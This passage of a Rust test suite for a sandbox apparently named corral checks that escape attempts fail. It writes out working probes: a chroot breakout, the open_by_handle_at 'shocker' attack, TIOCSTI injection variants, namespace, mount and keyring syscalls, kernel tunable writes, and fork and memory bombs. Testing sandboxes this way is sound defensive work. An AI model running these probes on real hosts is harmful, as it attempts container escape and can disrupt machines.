syscall('keyctl-get-session', 'keyctl', 0, -3, 0)
syscall('keyctl-read-session', 'keyctl', 11, -3, buf, 4096)
syscall('keyctl-read-user', 'keyctl', 11, -4, buf, 4096)
syscall('add_key', 'add_key', b'user', b'corral-escape', b'x', 1, -3)
"#))
    .await;
    assert_denied(
        &out,
        &[
            "keyctl-get-session",
            "keyctl-read-session",
            "keyctl-read-user",
            "add_key",
        ],
    );
}

#[tokio::test]
async fn mount_and_the_new_mount_api_are_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
w = os.environ['W']
syscall('mount-tmpfs', 'mount', b'none', w, b'tmpfs', 0, None)
syscall('mount-proc', 'mount', b'proc', w, b'proc', 0, None)
syscall('fsopen', 'fsopen', b'tmpfs', 0)
syscall('open-tree-clone', 'open_tree', -100, b'/', 1 | 0x80000)
syscall('pivot-root', 'pivot_root', w, w)
attempt('mount-binary', lambda: run_ok(['mount', '-t', 'tmpfs', 'none', w]))
"#))
    .await;
    assert_denied(
        &out,
        &[
            "mount-tmpfs",
            "mount-proc",
            "fsopen",
            "open-tree-clone",
            "pivot-root",
            "mount-binary",
        ],
    );
}

#[tokio::test]
async fn remounting_a_read_only_root_writable_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let before = world.host_state();
    let out = run(world.py(r#"
ro = os.environ['RO']
MS_REMOUNT, MS_BIND = 0x20, 0x1000
def remount_and_write():
    r, e = raw('mount', None, ro, None, MS_REMOUNT | MS_BIND, None)
    if r != 0:
        raise PermissionError(e, f'remount: {errname(e)}')
    with open(ro + '/data', 'w') as f:
        f.write('pwned')
attempt('remount-rw', remount_and_write)
syscall('remount-usr', 'mount', None, b'/usr', None, MS_REMOUNT | MS_BIND, None)
"#))
    .await;
    assert_denied(&out, &["remount-rw", "remount-usr"]);
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn unmounting_to_uncover_what_lies_beneath_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
MNT_DETACH = 2
syscall('umount-ro', 'umount2', os.environ['RO'], MNT_DETACH)
syscall('umount-proc', 'umount2', b'/proc', MNT_DETACH)
syscall('umount-usr', 'umount2', b'/usr', MNT_DETACH)
syscall('umount-root', 'umount2', b'/', MNT_DETACH)
"#))
    .await;
    assert_denied(
        &out,
        &["umount-ro", "umount-proc", "umount-usr", "umount-root"],
    );
}

#[tokio::test]
async fn new_namespaces_cannot_be_created_or_joined() {
    // A nested user namespace hands back every capability inside it: the kernel surface that
    // the sandbox removed comes back. clone() and clone3() are the ways around an unshare filter.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
syscall('unshare-user', 'unshare', CLONE_NEWUSER)
syscall('unshare-mount', 'unshare', CLONE_NEWNS)
syscall('unshare-net', 'unshare', CLONE_NEWNET)
syscall('unshare-pid', 'unshare', CLONE_NEWPID)
def setns():
    fd = os.open('/proc/self/ns/user', os.O_RDONLY)
    r, e = raw('setns', fd, 0)
    report('setns', r != -1, f'errno={errname(e)}')
in_child('setns', setns)
def clone_user():
    r, e = raw('clone', CLONE_NEWUSER | 17, 0, 0, 0, 0)
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
    report('clone-newuser', r > 0, f'errno={errname(e)}')
in_child('clone-newuser', clone_user)
def clone3_user():
    args = (ctypes.c_uint64 * 11)()
    args[0] = CLONE_NEWUSER   # flags
    args[4] = 17              # exit_signal = SIGCHLD
    r, e = raw('clone3', args, 88)
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
    report('clone3-newuser', r > 0, f'errno={errname(e)}')
in_child('clone3-newuser', clone3_user)
attempt('unshare-binary', lambda: run_ok(['unshare', '-Ur', 'true']))
"#))
    .await;
    assert_denied(
        &out,
        &[
            "unshare-user",
            "unshare-mount",
            "unshare-net",
            "unshare-pid",
            "setns",
            "clone-newuser",
            "clone3-newuser",
            "unshare-binary",
        ],
    );
}

#[tokio::test]
async fn tiocsti_cannot_inject_terminal_input_even_with_high_bits_set() {
    // CVE-2017-5226 and CVE-2019-10063: the kernel reads the ioctl number as 32 bits, a filter
    // comparing 64 bits misses `TIOCSTI | 1 << 32`. The probe makes a pty its controlling
    // terminal, so without a filter the plain call would succeed (legacy_tiocsti is on here).
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
import fcntl, termios
TIOCSTI = 0x5412
VARIANTS = {'plain': TIOCSTI, 'bit32': TIOCSTI | (1 << 32), 'high': 0xffffffff00000000 | TIOCSTI}
def on_inherited():
    c = ctypes.c_char(b'x')
    for label, fd in (('stdin', 0), ('stdout', 1), ('stderr', 2)):
        for v, cmd in VARIANTS.items():
            r, e = raw('ioctl', fd, cmd, ctypes.byref(c))
            report(f'tiocsti-{v}-{label}', r != -1, f'errno={errname(e)}')
in_child('tiocsti-inherited', on_inherited)
attempt('open-dev-tty', lambda: os.open('/dev/tty', os.O_RDWR))
def on_own_pty():
    try:
        m, s = os.openpty()
    except OSError as e:
        print(f'note: no pty inside ({e}); only the inherited descriptors were probed')
        for v in VARIANTS:
            report(f'tiocsti-{v}-pty', False, 'no pty')
        return
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    c = ctypes.c_char(b'x')
    for v, cmd in VARIANTS.items():
        r, e = raw('ioctl', s, cmd, ctypes.byref(c))
        report(f'tiocsti-{v}-pty', r != -1, f'errno={errname(e)}')
in_child('tiocsti-pty', on_own_pty)
"#))
    .await;
    assert_denied(
        &out,
        &[
            "tiocsti-plain-stdin",
            "tiocsti-bit32-stdout",
            "tiocsti-high-stderr",
            "open-dev-tty",
            "tiocsti-plain-pty",
            "tiocsti-bit32-pty",
            "tiocsti-high-pty",
        ],
    );
}

#[tokio::test]
async fn perf_event_open_and_userfaultfd_are_denied() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
attr = (ctypes.c_uint64 * 16)()
attr[0] = (128 << 32) | 1            # size 128, PERF_TYPE_SOFTWARE
attr[1] = 0                          # PERF_COUNT_SW_CPU_CLOCK
attr[5] = (1 << 5) | (1 << 6)        # exclude_kernel | exclude_hv: allowed at paranoid 2
syscall('perf_event_open', 'perf_event_open', attr, 0, -1, -1, 0)
syscall('userfaultfd', 'userfaultfd', 0x80000)
syscall('userfaultfd-user-mode', 'userfaultfd', 0x80000 | 1)
"#))
    .await;
    assert_denied(
        &out,
        &["perf_event_open", "userfaultfd", "userfaultfd-user-mode"],
    );
}

#[tokio::test]
async fn kernel_modules_kexec_and_the_kernel_log_are_out_of_reach() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
syscall('init_module', 'init_module', None, 0, b'')
syscall('finit_module', 'finit_module', 0, b'', 0)
syscall('kexec_load', 'kexec_load', 0, 0, None, 0)
buf = ctypes.create_string_buffer(4096)
syscall('syslog-read-all', 'syslog', 3, buf, 4096)
attempt('dev-kmsg', lambda: os.read(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK), 4096))
"#))
    .await;
    assert_denied(
        &out,
        &[
            "init_module",
            "finit_module",
            "kexec_load",
            "syslog-read-all",
            "dev-kmsg",
        ],
    );
}

#[tokio::test]
async fn the_chroot_breakout_does_not_reach_the_host_root() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
def breakout():
    os.makedirs('jail', exist_ok=True)
    fd = os.open('/', os.O_RDONLY)
    os.chroot('jail')
    os.fchdir(fd)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    found = []
    for d in (os.environ['HT'], os.environ['HF']):
        try:
            with open(d + '/secret') as f:
                found.append(f.read())
        except OSError:
            pass
    if found:
        return found
    raise PermissionError(errno.ENOENT, 'chroot worked but the host stayed out of reach')
attempt('chroot-breakout', breakout)
"#))
    .await;
    assert_denied(&out, &["chroot-breakout"]);
    assert_no_secret(&out);
}

#[tokio::test]
async fn open_by_handle_at_cannot_reach_host_inodes() {
    // The "shocker" attack: a file handle names an inode directly, bypassing the mount view.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(
        r#"
def shocker():
    handle = (ctypes.c_uint8 * 136)()
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint32))[0] = 128
    mount_id = ctypes.c_int()
    r, e = raw('name_to_handle_at', -100, os.environ['W'].encode(), handle, ctypes.byref(mount_id), 0)
    if r != 0:
        raise PermissionError(e, f'name_to_handle_at: {errname(e)}')
    # Point the handle at inode 2, the root of the file system under the writable root.
    words = ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint32))
    words[2], words[3] = 2, 0
    dfd = os.open(os.environ['W'], os.O_RDONLY)
    r, e = raw('open_by_handle_at', dfd, handle, os.O_RDONLY | os.O_DIRECTORY)
    if r < 0:
        raise PermissionError(e, f'open_by_handle_at: {errname(e)}')
    return os.listdir(r)
attempt('open-by-handle', shocker)
"#,
    ))
    .await;
    assert_denied(&out, &["open-by-handle"]);
}

#[tokio::test]
async fn device_nodes_cannot_be_created_or_host_devices_opened() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(
        r#"
import stat
attempt('mknod-mem', lambda: os.mknod('mem', stat.S_IFCHR | 0o600, os.makedev(1, 1)))
attempt('mknod-disk', lambda: os.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(254, 0)))
for dev in ('/dev/mem', '/dev/kmem', '/dev/port', '/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/kvm'):
    attempt('open-' + dev, lambda dev=dev: os.open(dev, os.O_RDONLY))
"#,
    ))
    .await;
    assert_denied(
        &out,
        &[
            "mknod-mem",
            "mknod-disk",
            "open-/dev/mem",
            "open-/dev/vda",
            "open-/dev/kvm",
        ],
    );
    for name in ["mem", "disk"] {
        assert!(!world.w().join(name).exists(), "{name} was created");
    }
}

#[tokio::test]
async fn the_hosts_dev_shm_is_invisible() {
    let world = World::new();
    let name = format!("corral-escape-{}", nonce());
    let path = Path::new("/dev/shm").join(&name);
    let _cleanup = Cleanup(vec![path.clone()]);
    write(&path, SECRET);
    let before = snapshot(&path);
    let out = run(with_env(
        world.sh(r#"
leak read cat "/dev/shm/$NAME"
leak list sh -c 'ls -A /dev/shm | grep corral-escape'
# The sandbox's /dev/shm is its own tmpfs: a write there is fine, reaching the host's is not.
write_to "/dev/shm/$NAME" 2>/dev/null
"#),
        "NAME",
        &name,
    ))
    .await;
    assert_denied(&out, &["read", "list"]);
    assert_no_secret(&out);
    assert_unchanged(&before, &path, "/dev/shm file");
}

#[tokio::test]
async fn kernel_tunables_and_sysrq_cannot_be_written() {
    // Each tunable is written back with its current value, so even a hole changes nothing.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let core_pattern = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default();
    let out = run(world.py(r#"
def write_back(path):
    def go():
        with open(path) as f:
            value = f.read()
        fd = os.open(path, os.O_WRONLY)
        try:
            os.write(fd, value.encode())
        finally:
            os.close(fd)
        return 'written'
    return go
attempt('core_pattern', write_back('/proc/sys/kernel/core_pattern'))
attempt('swappiness', write_back('/proc/sys/vm/swappiness'))
attempt('modprobe-path', write_back('/proc/sys/kernel/modprobe'))
attempt('sysrq-open', lambda: os.open('/proc/sysrq-trigger', os.O_WRONLY))
"#))
    .await;
    assert_denied(
        &out,
        &["core_pattern", "swappiness", "modprobe-path", "sysrq-open"],
    );
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default(),
        core_pattern
    );
}

#[tokio::test]
async fn the_sandbox_cannot_leave_or_raise_its_cgroup_limits() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let mut req = world.py(r#"
def cgroup_path(controller):
    with open('/proc/self/cgroup') as f:
        for line in f:
            _, ctrls, path = line.rstrip('\n').split(':', 2)
            if controller in ctrls.split(','):
                return path
    return '/'
for ctl, knob, value in (('pids', 'pids.max', 'max'), ('memory', 'memory.limit_in_bytes', '-1')):
    base = f'/sys/fs/cgroup/{ctl}'
    own = base + cgroup_path(ctl)
    def raise_limit(own=own, knob=knob, value=value):
        fd = os.open(f'{own}/{knob}', os.O_WRONLY)
        os.write(fd, value.encode())
        return 'raised'
    attempt(f'raise-{ctl}', raise_limit)
    def leave(base=base):
        fd = os.open(f'{base}/cgroup.procs', os.O_WRONLY)
        os.write(fd, str(os.getpid()).encode())
        return 'moved to the root cgroup'
    attempt(f'leave-{ctl}', leave)
    def mkdir(own=own):
        os.mkdir(f'{own}/corral-escape')
        return 'sub-cgroup made'
    attempt(f'mkdir-{ctl}', mkdir)
"#);
    req.limits.processes = Some(64);
    cap_memory(&mut req, 1 << 30);
    let out = run(req).await;
    assert_denied(
        &out,
        &[
            "raise-pids",
            "leave-pids",
            "mkdir-pids",
            "raise-memory",
            "leave-memory",
            "mkdir-memory",
        ],
    );
}

#[tokio::test]
async fn changing_the_hostname_does_not_reach_the_host() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let before = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let out = run(world.py(r#"
attempt('sethostname', lambda: socket.sethostname('corral-pwned'))
print('hostname inside:', socket.gethostname())
"#))
    .await;
    probe_output(&out);
    let after = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    assert_eq!(before, after, "the host's hostname changed");
}

// ---------------------------------------------------------------------------------------------
// Privilege
// ---------------------------------------------------------------------------------------------

/// `(field, value)` pairs of `/proc/self/status` lines as printed by the probe.
fn status_field<'a>(status: &'a str, field: &str) -> Option<&'a str> {
    status
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{field}:")))
        .map(str::trim)
}

#[tokio::test]
async fn a_copied_setuid_binary_gains_nothing() {
    let world = World::new();
    // A setuid-root copy planted by the host (the tempdir is 0700, so no host user can use it).
    let planted = world.w().join("suid-cat");
    std::fs::copy("/usr/bin/cat", &planted).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let out = run(world.sh(r#"
echo '--- plain'; cat /proc/self/status
echo '--- planted'; ./suid-cat /proc/self/status
cp /bin/cat own-suid-cat && chmod u+s,g+s own-suid-cat
echo '--- own'; ./own-suid-cat /proc/self/status
echo '--- end'
"#))
    .await;
    let stdout = probe_output(&out);
    let section = |name: &str| -> String {
        stdout
            .split(&format!("--- {name}\n"))
            .nth(1)
            .and_then(|s| s.split("\n---").next())
            .unwrap_or_default()
            .to_owned()
    };
    let plain = section("plain");
    let uid = status_field(&plain, "Uid").expect("plain status has a Uid line");
    for name in ["planted", "own"] {
        let s = section(name);
        if status_field(&s, "Uid").is_none() {
            // Not executable at all (a `noexec` root): it gains nothing either.
            eprintln!("the {name} setuid copy did not run");
            continue;
        }
        assert_eq!(
            status_field(&s, "Uid"),
            Some(uid),
            "the {name} setuid copy changed the uid: {s}"
        );
        assert_eq!(
            status_field(&s, "Gid"),
            status_field(&plain, "Gid"),
            "the {name} setgid copy changed the gid"
        );
        assert_eq!(
            status_field(&s, "CapEff"),
            Some("0000000000000000"),
            "{name}: {s}"
        );
        assert_eq!(
            status_field(&s, "CapPrm"),
            Some("0000000000000000"),
            "{name}: {s}"
        );
    }
}

#[tokio::test]
async fn no_capability_is_effective_permitted_or_ambient_inside() {
    let world = World::new();
    let out = run(world.sh(
        "cat /proc/self/status; /usr/bin/env sh -c 'cat /proc/self/status' | sed 's/^/child-/'",
    ))
    .await;
    let stdout = probe_output(&out);
    for prefix in ["", "child-"] {
        for field in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
            let f = format!("{prefix}{field}");
            assert_eq!(
                status_field(&stdout, &f),
                Some("0000000000000000"),
                "{f} is not empty:\n{stdout}"
            );
        }
    }
}

#[tokio::test]
async fn no_new_privs_and_a_seccomp_filter_are_in_force_after_exec() {
    let world = World::new();
    let out = run(world.sh(
        "cat /proc/self/status; /usr/bin/env sh -c 'cat /proc/self/status' | sed 's/^/child-/'",
    ))
    .await;
    let stdout = probe_output(&out);
    for prefix in ["", "child-"] {
        assert_eq!(
            status_field(&stdout, &format!("{prefix}NoNewPrivs")),
            Some("1"),
            "{stdout}"
        );
        assert_eq!(
            status_field(&stdout, &format!("{prefix}Seccomp")),
            Some("2"),
            "no seccomp filter: {stdout}"
        );
    }
}

#[tokio::test]
async fn switching_to_another_uid_or_joining_groups_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
uid = os.getuid()
other = 1 if uid != 1 else 2
attempt('setuid', lambda: os.setuid(other))
attempt('setresuid', lambda: os.setresuid(other, other, other))
attempt('setgroups', lambda: os.setgroups([0, 1, 2]))
attempt('setgid', lambda: os.setgid(other))
"#))
    .await;
    assert_denied(&out, &["setuid", "setresuid", "setgroups", "setgid"]);
}

// ---------------------------------------------------------------------------------------------
// Processes
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn host_processes_are_invisible() {
    let world = World::new();
    let me = std::process::id();
    let exe = std::env::current_exe().unwrap().display().to_string();
    let out = run(world.sh(r#"
for p in /proc/[0-9]*; do
  echo "pid ${p#/proc/} $(tr '\0' ' ' < $p/cmdline 2>/dev/null)"
done
ps -e -o pid=,args= | sed 's/^ */ps /'
"#))
    .await;
    let stdout = probe_output(&out);
    for source in ["pid ", "ps "] {
        let pids: Vec<u32> = stdout
            .lines()
            .filter_map(|l| l.strip_prefix(source))
            .filter_map(|l| l.split_whitespace().next()?.parse().ok())
            .collect();
        assert!(
            !pids.is_empty(),
            "`{source}` saw no process inside: {stdout}"
        );
        assert!(
            pids.len() <= 8,
            "{} processes visible inside, the host's must not be: {stdout}",
            pids.len()
        );
        assert!(!pids.contains(&me), "the test's own pid {me} is visible");
    }
    assert!(
        !stdout.contains(&exe),
        "the test binary is visible: {stdout}"
    );
    assert!(
        !stdout.contains("process_api"),
        "the host's init is visible"
    );
}

#[tokio::test]
async fn a_host_process_cannot_be_signalled() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let mut victim = Command::new("/bin/sleep").arg("60").spawn().unwrap();
    let pid = victim.id();
    let out = run(with_env(
        world.py(r#"
pid = int(os.environ['VICTIM'])
attempt('kill', lambda: os.kill(pid, 9))
attempt('kill-group', lambda: os.killpg(pid, 9))
attempt('probe', lambda: os.kill(pid, 0))
"#),
        "VICTIM",
        pid,
    ))
    .await;
    std::thread::sleep(Duration::from_millis(200));
    let alive = victim.try_wait().unwrap().is_none();
    let _ = victim.kill();
    let _ = victim.wait();
    assert_denied(&out, &["kill", "kill-group", "probe"]);
    assert!(alive, "the host process {pid} was killed from the sandbox");
}

#[tokio::test]
async fn background_processes_die_at_the_timeout() {
    let world = World::new();
    let tag = format!("7.{:04}", std::process::id() % 10_000);
    let mut req = with_env(
        world.sh(r#"
( sleep "$TAG"; echo late > "$W/marker-subshell" ) &
setsid sh -c 'sleep "$TAG"; echo late > "$W/marker-setsid"' &
nohup sh -c 'trap "" HUP TERM; sleep "$TAG"; echo late > "$W/marker-nohup"' >/dev/null 2>&1 &
sleep 600
"#),
        "TAG",
        &tag,
    );
    req.timeout = Duration::from_secs(2);
    let started = Instant::now();
    let out = run(req).await;
    assert!(out.timed_out, "{}", describe(&out));
    assert!(
        eventually(Duration::from_secs(5), || host_processes_with(&format!(
            "sleep {tag}"
        ))
        .is_empty()),
        "sandboxed sleeps outlived the timeout: {:?}",
        host_processes_with(&format!("sleep {tag}"))
    );
    std::thread::sleep(Duration::from_secs(9).saturating_sub(started.elapsed()));
    for m in ["marker-subshell", "marker-setsid", "marker-nohup"] {
        assert!(
            !world.w().join(m).exists(),
            "{m} appeared after the timeout"
        );
    }
}

#[tokio::test]
async fn background_processes_die_when_the_command_exits() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let tag = format!("4.{:04}", std::process::id() % 10_000 + 1);
    let started = Instant::now();
    let out = run(with_env(
        world.py(r#"
tag, w = os.environ['TAG'], os.environ['W']
subprocess.Popen(['sh', '-c', f'sleep {tag}; echo late > {w}/marker-popen'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['sh', '-c', f'sleep {tag}; echo late > {w}/marker-daemon'])
    os._exit(0)
"#),
        "TAG",
        &tag,
    ))
    .await;
    probe_output(&out);
    assert!(!out.timed_out, "{}", describe(&out));
    assert!(
        eventually(Duration::from_secs(5), || host_processes_with(&format!(
            "sleep {tag}"
        ))
        .is_empty()),
        "a daemon outlived the run: {:?}",
        host_processes_with(&format!("sleep {tag}"))
    );
    std::thread::sleep(Duration::from_secs(6).saturating_sub(started.elapsed()));
    for m in ["marker-popen", "marker-daemon"] {
        assert!(!world.w().join(m).exists(), "{m} appeared after the run");
    }
}

#[tokio::test]
async fn the_sandbox_dies_with_corral() {
    const TEST: &str = "escapes::the_sandbox_dies_with_corral";
    if child_role().as_deref() == Some("corral") {
        // The child: plays corral and runs a long sandbox until the parent kills it.
        let dir = PathBuf::from(std::env::var("ESCAPE_DIR").unwrap());
        let tag = std::env::var("ESCAPE_TAG").unwrap();
        let mut req = crate::shell(&format!(
            "echo started > '{d}/started'; sleep {tag}; echo late > '{d}/marker'",
            d = dir.display()
        ));
        req.env = vec![("PATH".into(), "/usr/bin:/bin".into())];
        req.cwd = dir.clone();
        req.write_paths = vec![dir];
        req.timeout = Duration::from_secs(60);
        let out = run(req).await;
        panic!(
            "the sandbox was not killed with its parent: {}",
            describe(&out)
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let tag = format!("8.{:04}", std::process::id() % 10_000 + 2);
    let mut corral = reexec(TEST, "corral")
        .env("ESCAPE_DIR", dir.path())
        .env("ESCAPE_TAG", &tag)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    // The run's writes reach the host only after it (its copy-on-write layer): its sleep,
    // visible from the host, is the sign it started.
    let up = eventually(Duration::from_secs(30), || {
        !host_processes_with(&format!("sleep {tag}")).is_empty()
    });
    if !up {
        let _ = corral.kill();
        let output = corral.wait_with_output().unwrap();
        panic!(
            "the sandbox never started in the child: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    assert!(
        !host_processes_with(&format!("sleep {tag}")).is_empty(),
        "the sandboxed sleep is not visible from the host, so this test proves nothing"
    );
    corral.kill().unwrap();
    corral.wait().unwrap();
    assert!(
        eventually(Duration::from_secs(5), || host_processes_with(&format!(
            "sleep {tag}"
        ))
        .is_empty()),
        "the sandbox outlived corral: {:?}",
        host_processes_with(&format!("sleep {tag}"))
    );
    std::thread::sleep(Duration::from_secs(10).saturating_sub(started.elapsed()));
    assert!(
        !dir.path().join("marker").exists(),
        "the sandbox kept running after corral died"
    );
}

// ---------------------------------------------------------------------------------------------
// Limits
// ---------------------------------------------------------------------------------------------

/// Stops a background thread when dropped (also when the test panics).
struct StopOnDrop(Arc<AtomicBool>);

impl Drop for StopOnDrop {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

/// Spawns `/bin/true` on the host in a loop until `stop`, returning the slowest spawn.
fn host_responsiveness(stop: Arc<AtomicBool>) -> std::thread::JoinHandle<(u32, Duration)> {
    std::thread::spawn(move || {
        let (mut n, mut worst) = (0u32, Duration::ZERO);
        while !stop.load(Ordering::Relaxed) {
            let t = Instant::now();
            let ok = Command::new("/bin/true")
                .status()
                .is_ok_and(|s| s.success());
            assert!(ok, "the host could not spawn /bin/true during the bomb");
            worst = worst.max(t.elapsed());
            n += 1;
            std::thread::sleep(Duration::from_millis(100));
        }
        (n, worst)
    })
}

#[tokio::test]
async fn a_fork_bomb_is_contained_by_the_pids_limit() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let stop = Arc::new(AtomicBool::new(false));
    let watcher = host_responsiveness(Arc::clone(&stop));
    let _stop = StopOnDrop(Arc::clone(&stop));

    // Step 1, bounded: 1000 forks against a limit of 32. If this is not contained the real bomb
    // below is not run, so a hole cannot take the machine down. Both steps use one backend, so
    // the cgroup set-up that step 1 proved is the one step 2 runs under.
    let bomb_backend = backend();
    let mut req = world.py(r#"
n = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    n += 1
print('forked', n, flush=True)
"#);
    req.limits.processes = Some(32);
    req.timeout = Duration::from_secs(60);
    let out = bomb_backend.run(req).await.unwrap();
    let stdout = probe_output(&out);
    let forked: u32 = stdout
        .lines()
        .find_map(|l| l.strip_prefix("forked "))
        .and_then(|n| n.trim().parse().ok())
        .expect("the probe printed its count");
    assert!(
        forked < 32,
        "{forked} processes were forked past a limit of 32: {}",
        describe(&out)
    );

    // As root only the pids cgroup binds; a normal user's RLIMIT_NPROC binds in the run's own
    // user namespace (issue 12 item 2).
    let limit = if rustix::process::getuid().is_root() {
        "cgroup:pids"
    } else {
        "rlimit:nproc-userns"
    };
    assert!(
        out.attestation.primitives.iter().any(|p| p == limit),
        "no {limit}: RLIMIT_NPROC alone does not bind uid 0, so the real bomb is not run: {}",
        describe(&out)
    );

    // Step 2, the classic shell bomb, ended by the limit and the wall-clock timeout.
    let mut req = world.request(vec![
        "/bin/bash".into(),
        "-c".into(),
        "bomb() { bomb | bomb & }; bomb; wait".into(),
    ]);
    req.limits.processes = Some(64);
    req.timeout = Duration::from_secs(5);
    let started = Instant::now();
    let out = bomb_backend.run(req).await.unwrap();
    let elapsed = started.elapsed();
    stop.store(true, Ordering::Relaxed);
    let (spawns, worst) = watcher.join().unwrap();
    assert!(
        elapsed < Duration::from_secs(20),
        "the bomb's run took {elapsed:?}: {}",
        describe(&out)
    );
    assert!(spawns > 0, "the host never got to spawn during the bomb");
    assert!(
        worst < Duration::from_secs(5),
        "the host took {worst:?} to spawn /bin/true during the bomb"
    );
    assert!(
        eventually(Duration::from_secs(5), || host_processes_with("bomb()")
            .is_empty()),
        "bomb processes survived the run"
    );
}

#[test]
fn the_pids_limit_holds_for_every_backend_started_at_once() {
    // corral may hold several backends at once (a config reload, several scopes). Each one
    // finds its cgroup hierarchies on first use; a race there must refuse runs, never drop the
    // limit silently (RLIMIT_NPROC alone is void when corral runs as root: uid 0 is exempt).
    if !host_has(PYTHON) {
        return;
    }
    const BACKENDS: usize = 12;
    const ROUNDS: usize = 4;
    for _ in 0..ROUNDS {
        pids_limit_round(BACKENDS);
    }
}

/// `backends` fresh backends, each running a bounded fork probe at the same moment.
fn pids_limit_round(backends: usize) {
    let barrier = Arc::new(std::sync::Barrier::new(backends));
    let handles: Vec<_> = (0..backends)
        .map(|_| {
            let barrier = Arc::clone(&barrier);
            std::thread::spawn(move || {
                let world = World::new();
                let mut req = world.py(r#"
n = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    n += 1
print('forked', n, flush=True)
"#);
                req.limits.processes = Some(16);
                let rt = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                    .unwrap();
                let backend = backend();
                barrier.wait();
                rt.block_on(backend.run(req))
            })
        })
        .collect();
    for h in handles {
        match h.join().unwrap() {
            // Refusing the run is a correct answer to a cgroup it could not set up.
            Err(e) => eprintln!("refused: {e}"),
            Ok(out) => {
                let stdout = probe_output(&out);
                let forked: u32 = stdout
                    .lines()
                    .find_map(|l| l.strip_prefix("forked "))
                    .and_then(|n| n.trim().parse().ok())
                    .expect("the probe printed its count");
                assert!(
                    forked < 16,
                    "{forked} processes were forked past a limit of 16: {}",
                    describe(&out)
                );
            }
        }
    }
}

#[tokio::test]
async fn a_memory_bomb_is_killed() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let mut req = world.py(r#"
chunks = []
for i in range(64):
    chunks.append(b'x' * (64 << 20))   # touched, not just reserved
print('ALLOCATED', len(chunks) * 64, 'MiB', flush=True)
"#);
    cap_memory(&mut req, 256 << 20);
    req.timeout = Duration::from_secs(60);
    let out = run(req).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("ALLOCATED"),
        "4 GiB were allocated under a 256 MiB limit: {}",
        describe(&out)
    );
    assert!(!out.timed_out, "{}", describe(&out));
    assert_ne!(out.exit_code, Some(0), "{}", describe(&out));
}

#[tokio::test]
async fn a_cpu_spin_is_killed_at_its_cpu_limit() {
    let world = World::new();
    let mut req = world.request(vec![
        "/bin/sh".into(),
        "-c".into(),
        "while :; do :; done".into(),
    ]);
    req.limits.cpu_seconds = Some(1);
    req.timeout = Duration::from_secs(60);
    let out = run(req).await;
    assert!(
        !out.timed_out,
        "the spin ran into the wall-clock timeout: {}",
        describe(&out)
    );
    assert!(
        matches!(out.signal, Some(SIGXCPU | SIGKILL)),
        "{}",
        describe(&out)
    );
    assert!(out.duration < Duration::from_secs(30), "{}", describe(&out));
}

#[tokio::test]
async fn huge_output_is_cut_at_the_cap() {
    let world = World::new();
    let mut req = world.request(vec![
        "/bin/sh".into(),
        "-c".into(),
        "head -c 200000000 /dev/zero; head -c 200000000 /dev/zero >&2".into(),
    ]);
    req.max_output_bytes = 64 * 1024;
    req.timeout = Duration::from_secs(60);
    let out = run(req).await;
    assert_eq!(out.stdout.len(), 64 * 1024);
    assert_eq!(out.stderr.len(), 64 * 1024);
    assert!(out.stdout_truncated && out.stderr_truncated);
    assert!(!out.timed_out, "{}", describe(&out));
    assert_eq!(out.exit_code, Some(0), "the output was drained to its end");
}

#[tokio::test]
